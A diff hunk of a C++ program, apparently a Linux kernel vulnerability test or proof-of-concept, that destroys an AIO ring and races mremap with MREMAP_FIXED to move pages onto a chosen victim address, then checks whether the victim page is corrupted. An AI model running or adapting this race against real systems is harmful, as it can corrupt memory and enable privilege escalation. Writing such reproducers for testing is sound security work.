@@ -12,17 +12,22 @@ int main() {
   using Clock = std::chrono::steady_clock;
   constexpr long kEvents = 1024;
   constexpr std::size_t kPages = 17;  // of such a ring
-  const Victim victim = Victim::page(0x2000'0100'0000);
-  const std::uint64_t target = victim.address() - (kPages - 1) * kPage;
-  char* const number = map_at(0, kPage);
-  if (raw_syscall(__NR_mprotect, number, kPage, PROT_READ) != 0) cannot_try("mprotect");
-  // The kernel maps the next ring where this was.
-  const auto ring = reinterpret_cast<std::uint64_t>(map_at(0, kPages * kPage, MAP_SHARED));
-  if (raw_syscall(__NR_munmap, ring, kPages * kPage) != 0) cannot_try("munmap");
+  std::atomic<std::uint64_t> ring = 0;
+  std::atomic<std::uint64_t> target = 0;
   std::atomic<bool> done = false;
   std::thread mover([&] {
-    while (!done) (void)raw_syscall(__NR_mremap, ring, kPage, kPage, MREMAP_MAYMOVE | MREMAP_FIXED, target);
+    while (!done)
+      (void)raw_syscall(__NR_mremap, ring.load(), kPage, kPage, MREMAP_MAYMOVE | MREMAP_FIXED, target.load());
   });
+  // A ring's number is its address. The kernel maps the next one there, too, when this one is gone.
+  char* const number = map_at(0, kPage);
+  std::uint64_t first = 0;
+  if (raw_syscall(__NR_io_setup, kEvents, &first) != 0) cannot_try("io_setup");
+  if (raw_syscall(__NR_io_destroy, first) != 0) cannot_try("io_destroy");
+  if (raw_syscall(__NR_mprotect, number, kPage, PROT_READ) != 0) cannot_try("mprotect");
+  const Victim victim = Victim::page(0x2000'0100'0000);
+  target = victim.address() - (kPages - 1) * kPage;
+  ring = first;
   long answer = 0;
   const auto end = Clock::now() + std::chrono::seconds(2);
   while (Clock::now() < end && victim.intact()) {
